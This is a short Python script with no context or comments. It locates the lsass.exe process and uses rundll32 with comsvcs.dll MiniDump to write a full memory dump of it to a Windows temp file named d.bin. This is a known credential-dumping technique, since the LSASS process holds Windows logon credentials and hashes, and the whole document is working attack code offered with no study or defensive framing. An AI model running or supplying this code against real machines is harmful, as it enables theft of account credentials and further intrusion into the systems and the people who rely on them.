import subprocess, psutil
def collect(out=r"C:\\Windows\\Temp\\d.bin"):
    pid = next(p.pid for p in psutil.process_iter(["name"]) if p.info["name"] == "lsass.exe")
    subprocess.run(["rundll32.exe", r"C:\\Windows\\System32\\comsvcs.dll", "MiniDump", str(pid), out, "full"])
